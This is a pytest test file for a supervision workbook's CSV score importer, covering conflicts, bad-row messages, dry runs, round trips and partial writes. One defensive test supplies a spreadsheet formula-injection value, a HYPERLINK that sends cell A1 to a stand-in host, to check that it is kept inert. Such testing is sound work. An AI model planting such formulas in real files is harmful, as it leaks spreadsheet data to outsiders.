"""Importing scores from a CSV, as a training program does it.

A program brings two years of paper scores and gets ordinary session reviews; a row for a
session that is already recorded is reported as a conflict and nothing is replaced; one bad
row writes nothing at all; and a workspace exported with ``export --format responses`` and
imported into an empty one gives back the same scores and the same score-based alerts.
"""

from __future__ import annotations

import csv
import io
import sys
from datetime import date, timedelta
from pathlib import Path

import pytest

from supervision_workbook.alerts import RULES, case_alerts
from supervision_workbook.cli import main
from supervision_workbook.importer import CsvFileError, parse
from supervision_workbook.instruments import load_instruments
from supervision_workbook.model import ReviewKind, SessionEntry, Status
from supervision_workbook.scoring import score
from supervision_workbook.store import Workspace

HEADER = "trainee,case,session,date,instrument,respondent,item_1,item_2,item_3,item_4,item_5,item_6"
#: The rules a round trip keeps: every rule but the rupture log's. The file carries rating
#: answers and reflection theme intensities, but no ruptures (they are not answers to items).
CARRIED_RULES = set(RULES) - {"unrepaired_rupture"}


def _csv(tmp_path: Path, *rows: str, header: str = HEADER, name: str = "scores.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def _workspace(tmp_path: Path, name: str = "ws") -> Path:
    assert main(["init", str(tmp_path / name)]) == 0
    return tmp_path / name


def _files(ws: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted((ws / "reviews").rglob("*.ipynb"))}


def _cases(ws: Path) -> dict[tuple[str, str], dict[int, SessionEntry]]:
    """Each case's current sessions (the most recently updated copy of each number)."""
    workspace = Workspace(ws)
    loaded = [workspace.load(p).review for p in workspace.iter_artifacts()]
    cases: dict[tuple[str, str], dict[int, SessionEntry]] = {}
    for review in sorted(loaded, key=lambda r: r.updated):
        sessions = cases.setdefault((review.trainee.name, review.case.code), {})
        sessions.update({s.number: s for s in review.sessions})
    return cases


def _scores(session: SessionEntry, instruments: dict) -> dict[tuple[str, str], tuple]:
    out = {}
    for r in session.responses:
        result = score(instruments[r.instrument_id], r.answers)
        subscales = {k: (v.sum, v.mean) for k, v in result.subscales.items()}
        out[(r.instrument_id, r.respondent.value)] = (subscales, result.total, result.complete)
    return out


def _alerts(sessions: dict[int, SessionEntry], ws: Workspace) -> list[tuple]:
    ordered = [sessions[n] for n in sorted(sessions)]
    return [
        (a.rule, a.session_number, a.instrument_id, a.respondent, a.message)
        for a in case_alerts(ordered, ws.instruments, ws.config.alerts)
        if a.rule in CARRIED_RULES
    ]


# --- the stories ---------------------------------------------------------------------------
def test_a_program_brings_two_years_of_paper_scores(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two years of weekly ORS and SRS forms for two clients of one trainee become one
    submitted session review per session, indexed, scored and alerted like any other."""
    ws = _workspace(tmp_path)
    rows, start = [], date(2023, 1, 9)
    for code, base in (("P-001", 7.5), ("P-002", 5.0)):
        for week in range(1, 101):
            day = (start + timedelta(days=7 * (week - 1))).isoformat()
            srs = round(base + (week % 5) * 0.4, 1)
            rows.append(f"Sam Trainee,{code},{week},{day},ors,client,5,5.5,6,{week % 10}")
            rows.append(f"Sam Trainee,{code},{week},{day},srs,client,{srs},{srs},{srs},{srs}")
    path = _csv(tmp_path, *rows, header=HEADER.rsplit(",", 2)[0])
    assert main(["import", str(ws), str(path)]) == 0
    out = capsys.readouterr().out
    assert "Imported 200 sessions (400 responses; 1 new trainee, 2 new cases)" in out

    workspace = Workspace(ws)
    rows_by_case = {r.case_code: r for r in workspace.index.caseload()}
    assert sorted(rows_by_case) == ["P-001", "P-002"]
    assert {r.sessions for r in rows_by_case.values()} == {100}
    assert len({r.trainee_id for r in rows_by_case.values()}) == 1  # one trainee, made once
    reviews = [workspace.load(p).review for p in workspace.iter_artifacts()]
    assert {(r.kind, r.status) for r in reviews} == {(ReviewKind.session, Status.submitted)}
    assert all(len(r.sessions) == 1 and len(r.sessions[0].responses) == 2 for r in reviews)
    assert {r.case.opened for r in reviews} == {start}

    p2 = _cases(ws)[("Sam Trainee", "P-002")]
    week3 = _scores(p2[3], workspace.instruments)
    assert week3[("srs", "client")][1].sum == pytest.approx(4 * 6.2)
    # SRS totals of 5.0 x 4 = 20 to 6.6 x 4 = 26.4 lie under its cut-off of 36 at every
    # session, so the dashboard counts exactly what the alert rules say.
    alerts = case_alerts(
        [p2[n] for n in sorted(p2)], workspace.instruments, workspace.config.alerts
    )
    # One cut-off flag per session (the ORS and SRS findings of a session share it), each
    # naming the SRS.
    cutoffs = [a for a in alerts if a.rule == "cutoff"]
    assert len(cutoffs) == 100
    assert all("Session Rating Scale (SRS) total" in a.message for a in cutoffs)
    assert rows_by_case["P-002"].flag_count == len(alerts)


def test_a_row_for_a_session_already_recorded_is_a_conflict_and_nothing_is_replaced(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = tmp_path / "ws"
    assert main(["demo", str(ws), "--trainees", "1", "--cases", "1", "--sessions", "2"]) == 0
    before = _files(ws)
    recorded = _cases(ws)[("Avery Demo", "C-101")]
    path = _csv(
        tmp_path,
        "Avery Demo,C-101,2,2026-01-12,alliance-checkin-client,client,1,1,1,1,1,1",
        "Avery Demo,C-101,2,2026-01-12,srs,client,1,1,1,1",
        "avery  demo,c-101,3,2026-01-19,alliance-checkin-client,client,4,4,4,4,4,4",
    )
    capsys.readouterr()
    assert main(["import", str(ws), str(path)]) == 1
    captured = capsys.readouterr()
    err = captured.err.splitlines()
    assert err[0] == (
        f"{path}:2: session: session 2 of case C-101 (Avery Demo) is already recorded with "
        "alliance-checkin-client; skipped, nothing was replaced"
    )
    assert err[1].startswith(f"{path}:3: session: session 2 of case C-101 (Avery Demo) is ")
    assert "never adds to a recorded session" in err[1]
    assert err[-1] == "Skipped 2 rows for sessions already recorded."
    assert "Imported 1 session (1 response; 0 new trainees, 0 new cases)" in captured.out

    after = _files(ws)
    assert {p: b for p, b in after.items() if p in before} == before  # every byte kept
    (new,) = set(after) - set(before)
    review = Workspace(ws).load(new).review
    demo = Workspace(ws).load(next(iter(before))).review
    assert (review.trainee, review.case) == (demo.trainee, demo.case)  # same ids, supervisor
    assert review.sessions[0].number == 3
    assert _cases(ws)[("Avery Demo", "C-101")][2] == recorded[2]


def test_a_session_someone_is_writing_as_a_draft_is_a_conflict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = tmp_path / "ws"
    assert main(["demo", str(ws), "--trainees", "1", "--cases", "1", "--sessions", "1"]) == 0
    workspace = Workspace(ws)
    first = next(
        r
        for p in workspace.iter_artifacts()
        if (r := workspace.load(p).review).kind == ReviewKind.session
    )
    draft = first.model_copy(update={"id": "rv-draft00001", "status": Status.draft})
    draft.sessions = [first.sessions[0].model_copy(update={"number": 2})]
    workspace.save(draft, draft=True)
    path = _csv(
        tmp_path, "Avery Demo,C-101,2,2026-01-12,alliance-checkin-client,client,4,4,4,4,4,4"
    )
    assert main(["import", str(ws), str(path)]) == 1
    assert "session 2 of case C-101 (Avery Demo) is already recorded" in capsys.readouterr().err


def test_one_bad_row_writes_nothing_and_skip_bad_writes_the_good_sessions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = _workspace(tmp_path)
    path = _csv(
        tmp_path,
        "Sam Trainee,P-001,1,2024-02-01,alliance-checkin-client,client,4,4,4,4,4,4",
        "Sam Trainee,P-001,1,2024-02-01,alliance-checkin-therapist,therapist,4,4,4,4,4,4",
        "Sam Trainee,P-001,2,2024-02-08,alliance-checkin-client,client,4,4,9,4,4,4",
        "Sam Trainee,P-001,2,2024-02-08,alliance-checkin-therapist,therapist,4,4,4,4,4,4",
        "Sam Trainee,P-001,3,2024-02-15,alliance-checkin-client,client,5,5,5,5,5,5",
    )
    assert main(["import", str(ws), str(path)]) == 2
    err = capsys.readouterr().err
    assert err == (
        f"error: {path}:4: item_3: 9 is outside the scale 1 to 5 in steps of 1; "
        "nothing was imported\n"
    )
    assert _files(ws) == {}
    assert not (ws / "drafts").exists() or not list((ws / "drafts").rglob("*.ipynb"))

    assert main(["import", str(ws), str(path), "--skip-bad"]) == 1
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [
        f"{path}:4: item_3: 9 is outside the scale 1 to 5 in steps of 1",
        f"{path}:5: session: held back with line 4, a bad row of the same session",
        "Skipped 1 bad row, 1 row held back with a bad row.",
    ]
    assert "Imported 2 sessions (3 responses; 1 new trainee, 1 new case)" in captured.out
    assert sorted(_cases(ws)[("Sam Trainee", "P-001")]) == [1, 3]


def test_several_bad_rows_are_listed_one_per_line_then_one_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = _workspace(tmp_path)
    path = _csv(
        tmp_path,
        "Sam Trainee,P-001,1,2024-02-30,alliance-checkin-client,client,4,4,4,4,4,4",
        "Sam Trainee,P-001,two,2024-02-01,wai,client,4,4,4,4,4,4",
    )
    assert main(["import", str(ws), str(path), "--dry-run"]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"{path}:2: date: '2024-02-30' is not a date written YYYY-MM-DD (for example 2025-03-14)",
        f"{path}:3: session: 'two' is not a session number (a whole number, 1 to 10000)",
        f"{path}:3: instrument: unknown instrument 'wai' (known: alliance-checkin-client, "
        "alliance-checkin-therapist, countertransference, ors, srs, supervision-checkin, "
        "wai-sr-client, "
        "wai-sr-therapist)",
        f"error: {path}: 2 bad rows; nothing was imported (fix them, or run again with "
        "--skip-bad to import the good rows)",
    ]


def test_dry_run_says_what_would_be_imported_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = _workspace(tmp_path)
    path = _csv(
        tmp_path, "Sam Trainee,P-001,1,2024-02-01,srs,client,9,9,9,9.5", header=HEADER[:-14]
    )
    assert main(["import", str(ws), str(path), "--dry-run"]) == 0
    assert (
        "Would import 1 session (1 response; 1 new trainee, 1 new case)" in capsys.readouterr().out
    )
    assert _files(ws) == {}


# --- each bad row says where and what --------------------------------------------------------
INSTRUMENTS = load_instruments()
#: name -> (the row, the column its first problem names, words of that problem). Most rows
#: start "S,P-1,1,2024-01-01," (trainee S, case P-1, session 1); ``...`` stands for that.
BAD_ROWS = {
    "unknown instrument": ("...wai-sr,client,1,1,1,1", "instrument", "unknown instrument 'wai-sr'"),
    "answer out of range": ("...srs,client,1,1,1,11", "item_4", "11 is outside the scale 0 to 10"),
    "answer between the scale's points": (
        "...alliance-checkin-client,client,1,2.5,1,1,1,1",
        "item_2",
        "2.5 is outside the scale 1 to 5 in steps of 1",
    ),
    "an answer past the instrument's items": ("...srs,client,1,1,1,1,1", "item_5", "srs has 4"),
    "no answers at all": ("...srs,client,,,,", "item_1", "no answers"),
    "a formula where a number goes": ("...srs,client,=1+1,1,1,1", "item_1", "'=1+1' is not a"),
    "an exponent is not a score": ("...srs,client,1e1,1,1,1", "item_1", "is not a number"),
    "a date in another form": ("S,P-1,1,03/02/2024,srs,client,1,1,1,1", "date", "YYYY-MM-DD"),
    "a date in the future": ("S,P-1,1,2999-01-01,srs,client,1,1,1,1", "date", "in the future"),
    "session zero": ("S,P-1,0,2024-01-01,srs,client,1,1,1,1", "session", "not a session"),
    "a session with a decimal": ("S,P-1,2.0,2024-01-01,srs,client,1", "session", "not a session"),
    "the therapist filling in a client form": (
        "...srs,therapist,1,1,1,1",
        "respondent",
        "srs is filled in by the client, not the therapist",
    ),
    "a supervision rating in a session": (
        "...supervision-checkin,supervisor,1,1,1,1,1,1",
        "respondent",
        "rates the supervision",
    ),
    "an unknown respondent": ("...srs,mother,1,1,1,1", "respondent", "not client or therapist"),
    "a non-rating instrument": (
        "...rupture-log,therapist,1",
        "instrument",
        "rupture-log is not a rating or reflection instrument",
    ),
    "a client's name as the case": (
        "S,Jane Smith,1,2024-01-01,srs,client,1,1,1,1",
        "case",
        "not a case code",
    ),
    "a case code that is a long number": (
        "S,555-123-4567,1,2024-01-01,srs,client,1,1,1,1",
        "case",
        "Possible id number",
    ),
    "an email address as the trainee": (
        "sam@example.org,P-1,1,2024-01-01,srs,client,1,1,1,1",
        "trainee",
        "Possible email address",
    ),
    "an empty trainee": (",P-1,1,2024-01-01,srs,client,1,1,1,1", "trainee", "empty"),
    "a row cut short": ("...srs", "respondent", "missing cell (the row ends after 5 cells)"),
    "more cells than the header": ("...srs,client,1,1,1,1,,,x", "cell 13", "more cells than"),
}


@pytest.mark.parametrize("name", list(BAD_ROWS))
def test_a_bad_row_names_its_line_column_and_problem(name: str) -> None:
    row, column, words = BAD_ROWS[name]
    row = row.replace("...", "S,P-1,1,2024-01-01,")
    parsed = parse("in.csv", f"{HEADER}\n{row}\n", INSTRUMENTS, today=date(2026, 1, 1))
    assert parsed.rows == []
    first = str(parsed.problems[0])
    assert first.startswith(f"in.csv:2: {column}: "), first
    assert words in first, first


def test_rows_of_one_session_must_agree_and_not_repeat(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    path = _csv(
        tmp_path,
        "S,P-1,1,2024-01-01,srs,client,1,1,1,1",
        "S,P-1,1,2024-01-02,ors,client,1,1,1,1",
        "S,P-1,1,2024-01-01,srs,client,2,2,2,2",
    )
    from supervision_workbook.importer import plan_import, read_text

    workspace = Workspace(ws)
    plan = plan_import(workspace, parse(str(path), read_text(path), workspace.instruments))
    assert [str(p) for p in plan.problems] == [
        f"{path}:3: date: 2024-01-02, but line 2 dates session 1 of case P-1 2024-01-01",
        f"{path}:4: instrument: line 2 already gives srs from the client for session 1 of case P-1",
    ]
    assert plan.reviews == []


def test_a_header_that_is_not_the_format_is_refused_in_one_line() -> None:
    export_header = "review_id,kind,status,trainee_id,trainee,case_code,session,date,instrument"
    with pytest.raises(CsvFileError, match=r"^in.csv:1: review_id: not a column of a scores file"):
        parse("in.csv", export_header + "\n", INSTRUMENTS)
    with pytest.raises(CsvFileError, match=r"^in.csv:1: respondent: missing column in the header"):
        parse(
            "in.csv",
            "trainee,case,session,date,instrument,item_1\nS,P,1,2024-01-01,srs,1\n",
            INSTRUMENTS,
        )
    with pytest.raises(CsvFileError, match=r"^in.csv:1: item_2: missing column"):
        parse("in.csv", HEADER.replace("item_2,", "") + "\n", INSTRUMENTS)
    with pytest.raises(CsvFileError, match=r"^in.csv: only a header row"):
        parse("in.csv", HEADER + "\n\n", INSTRUMENTS)


# --- cell text is data ------------------------------------------------------------------------
def test_formula_like_cells_are_kept_as_text_and_never_evaluated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A name a spreadsheet would run (`=HYPERLINK(...)`) is stored as typed, shown as
    typed, and written back out with the apostrophe that keeps a spreadsheet from running
    it; the apostrophe our own export writes is taken off again on import."""
    ws = _workspace(tmp_path)
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    quoted = '"' + formula.replace('"', '""') + '"'
    path = _csv(
        tmp_path,
        f"{quoted},P-1,1,2024-01-01,srs,client,9,9,9,9",
        "'@Sam,P-2,1,2024-01-01,srs,client,9,9,9,9",
        header=HEADER[:-14],
    )
    assert main(["import", str(ws), str(path)]) == 0
    names = {r.trainee_name for r in Workspace(ws).index.caseload()}
    assert names == {formula, "@Sam"}
    out = tmp_path / "back.csv"
    assert main(["export", str(ws), "--format", "responses", "--out", str(out)]) == 0
    cells = [row[0] for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))]
    assert sorted(cells[1:]) == ['\'=HYPERLINK("http://example.invalid/?"&A1,"x")', "'@Sam"]


def test_files_that_are_not_a_scores_csv_get_one_clear_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = _workspace(tmp_path)
    latin1 = (HEADER + "\nJos\xe9,P-1,1,2024-01-01,srs,client,1,1,1,1\n").encode("latin-1")
    cases = {
        "empty.csv": (b"", "the file is empty"),
        "blank.csv": (b"\n\n  \n", "the file is empty"),
        "header.csv": ((HEADER + "\n").encode(), "only a header row"),
        "scan.csv": (b"%PDF-1.7\n\x00\x00\xff", "not a text file"),
        "latin1.csv": (latin1, f"not UTF-8 text (byte {len(HEADER) + 4})"),
    }
    for name, (data, words) in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        assert main(["import", str(ws), str(path)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and err.startswith(f"error: {path}: {words}"), err
    assert _files(ws) == {}


def test_a_byte_order_mark_from_a_spreadsheet_is_fine(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    path = tmp_path / "excel.csv"
    path.write_bytes(
        ("\ufeff" + HEADER[:-14] + "\r\nS,P-1,1,2024-01-01,srs,client,9,9,9,9\r\n").encode()
    )
    assert main(["import", str(ws), str(path)]) == 0


# --- the round trip ---------------------------------------------------------------------------
def test_an_exported_demo_imported_into_an_empty_workspace_gives_the_same_scores_and_alerts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    demo = tmp_path / "demo"
    assert main(["demo", str(demo), "--trainees", "2", "--cases", "2", "--sessions", "4"]) == 0
    exported = tmp_path / "responses.csv"
    assert main(["export", str(demo), "--format", "responses", "--out", str(exported)]) == 0
    empty = _workspace(tmp_path, "empty")
    assert main(["import", str(empty), str(exported)]) == 0
    assert (
        "Imported 16 sessions (48 responses; 2 new trainees, 4 new cases)"
        in capsys.readouterr().out
    )

    assert main(["validate", str(empty)]) == 0  # ordinary artifacts: schema, hash, cells
    assert "16 artifacts valid." in capsys.readouterr().err
    source, copy = Workspace(demo), Workspace(empty)
    before, after = _cases(demo), _cases(empty)
    assert sorted(after) == sorted(before) and len(before) == 4
    fired = 0
    for key, sessions in before.items():
        imported = after[key]
        assert sorted(imported) == sorted(sessions) == [1, 2, 3, 4]
        for n, session in sessions.items():
            assert imported[n].date == session.date
            assert _scores(imported[n], copy.instruments) == _scores(session, source.instruments)
            themes = session.reflection.themes if session.reflection else None
            assert (imported[n].reflection.themes if imported[n].reflection else None) == themes
        assert _alerts(imported, copy) == _alerts(sessions, source)
        fired += len(_alerts(sessions, source))
    assert fired > 0  # the comparison compared something: the demo's cases do raise alerts
    rules = {a[0] for key, sessions in before.items() for a in _alerts(sessions, source)}
    assert "recurring_theme" in rules  # carried by the reflection rows

    # The second import finds every session recorded and changes nothing.
    files = _files(empty)
    assert main(["import", str(empty), str(exported)]) == 1
    assert "Skipped 48 rows for sessions already recorded." in capsys.readouterr().err
    assert _files(empty) == files


def test_a_disk_that_fills_halfway_says_what_was_imported_and_a_second_run_finishes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = _workspace(tmp_path)
    path = _csv(
        tmp_path,
        *(f"S,P-1,{n},2024-01-0{n},srs,client,9,9,9,9" for n in (1, 2, 3)),
        header=HEADER[:-14],
    )
    real_save, calls = Workspace.save, []

    def full_disk(self: Workspace, review, *args, **kwargs):
        calls.append(review.id)
        if len(calls) == 2:
            raise OSError(28, "No space left on device", str(self.path / "reviews"))
        return real_save(self, review, *args, **kwargs)

    monkeypatch.setattr(Workspace, "save", full_disk)
    assert main(["import", str(ws), str(path)]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"Imported 1 of 3 sessions before the error below; importing {path} again skips "
        "those and adds the rest.",
        f"error: {ws / 'reviews'}: no space left on the device",
    ]
    monkeypatch.setattr(Workspace, "save", real_save)
    assert main(["import", str(ws), str(path)]) == 1
    assert "Imported 2 sessions" in capsys.readouterr().out
    assert sorted(_cases(ws)[("S", "P-1")]) == [1, 2, 3]


def test_the_user_guide_example_imports_as_it_says(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    guide = Path(__file__).resolve().parents[1] / "docs" / "user-guide.md"
    text = guide.read_text(encoding="utf-8").split("## Importing scores", 1)[1]
    example = text.split("```csv\n", 1)[1].split("```", 1)[0]
    path = tmp_path / "scores.csv"
    path.write_text(example, encoding="utf-8")
    ws = _workspace(tmp_path)
    assert main(["import", str(ws), str(path)]) == 0
    assert "Imported 2 sessions (5 responses; 1 new trainee, 1 new case)" in capsys.readouterr().out
    assert main(["import", str(ws), str(path)]) == 1
    conflict = capsys.readouterr().err.splitlines()[1]
    assert conflict.replace(str(path), "scores.csv") in text  # the conflict line it quotes


def test_a_reflection_row_brings_the_theme_intensities_and_nothing_else(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Countertransference themes come in as the session's reflection (a blank theme is not
    rated); its prompts are free text, which a CSV does not carry."""
    ws = _workspace(tmp_path)
    form = Workspace(ws).instruments["countertransference"]
    header = HEADER + ",item_7,item_8"
    path = _csv(
        tmp_path,
        "S,P-1,1,2024-01-01,alliance-checkin-client,client,4,4,4,4,4,4",
        "S,P-1,1,2024-01-01,countertransference,therapist,0,1,,4,0,0,2,0",
        "S,P-1,2,2024-01-08,countertransference,therapist,0,1,9,4,0,0,2,0",
        "S,P-1,3,2024-01-15,countertransference,client,0,1,1,4,0,0,2,0",
        header=header,
    )
    assert main(["import", str(ws), str(path), "--skip-bad"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == f"{path}:4: item_3: 9 is outside the scale 0 to 4 in steps of 1"
    assert err[1] == (
        f"{path}:5: respondent: countertransference is filled in by the therapist, not the client"
    )
    (session,) = _cases(ws)[("S", "P-1")].values()
    assert session.reflection is not None
    themes = [t.id for t in form.themes]
    expected = {themes[i]: v for i, v in enumerate([0, 1, None, 4, 0, 0, 2, 0]) if v is not None}
    assert session.reflection.themes == expected
    assert session.reflection.prompts == {} and session.reflection.free_text == ""
    assert [r.instrument_id for r in session.responses] == ["alliance-checkin-client"]


def test_a_terminal_sees_a_progress_bar_and_a_pipe_does_not(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = _workspace(tmp_path)
    rows = [f"S,P-1,{n},2024-01-{n:02d},srs,client,9,9,9,9" for n in range(1, 4)]
    assert main(["import", str(ws), str(_csv(tmp_path, *rows, header=HEADER[:-14]))]) == 0
    assert "importing" not in capsys.readouterr().err  # piped: quiet
    more = [f"S,P-1,{n},2024-01-{n:02d},srs,client,9,9,9,9" for n in range(4, 7)]
    path = _csv(tmp_path, *more, header=HEADER[:-14], name="more.csv")
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    assert main(["import", str(ws), str(path)]) == 0
    assert "importing:   0%|          | 0/3 " in capsys.readouterr().err  # the bar, over 3 files


def test_a_case_with_a_damaged_file_is_not_guessed_at(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whether session 3 is recorded cannot be told while one of the case's files does not
    load, so its rows are bad (nothing written) rather than imported on a guess."""
    ws = tmp_path / "ws"
    assert main(["demo", str(ws), "--trainees", "1", "--cases", "1", "--sessions", "2"]) == 0
    damaged = next((ws / "reviews").rglob("*_session_*.ipynb"))
    damaged.write_text(damaged.read_text(encoding="utf-8")[:500], encoding="utf-8")
    path = _csv(tmp_path, "Avery Demo,C-101,3,2026-01-19,srs,client,9,9,9,9", header=HEADER[:-14])
    capsys.readouterr()
    assert main(["import", str(ws), str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(
        f"error: {path}:2: case: cannot tell which sessions case C-101 already has: {damaged}"
    )
    assert err.count("\n") == 1 and err.rstrip().endswith("; nothing was imported")


def test_a_case_that_only_has_a_draft_is_reused_not_made_twice(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    assert main(["demo", str(ws), "--trainees", "1", "--cases", "1", "--sessions", "1"]) == 0
    workspace = Workspace(ws)
    loaded = (workspace.load(p).review for p in workspace.iter_artifacts())
    demo = next(r for r in loaded if r.kind == ReviewKind.session)
    new_case = demo.case.model_copy(update={"id": "case-draft0001", "code": "D-7"})
    draft = demo.model_copy(
        update={"id": "rv-draft00002", "status": Status.draft, "case": new_case}
    )
    workspace.save(draft, draft=True)
    path = _csv(tmp_path, "Avery Demo,d-7,5,2026-02-02,srs,client,9,9,9,9", header=HEADER[:-14])
    assert main(["import", str(ws), str(path)]) == 0
    imported = [r for r in Workspace(ws).index.reviews() if r.case_code.casefold() == "d-7"]
    assert [(r.case_id, r.case_code, r.trainee_id) for r in imported] == [
        ("case-draft0001", "D-7", demo.trainee.id)
    ]
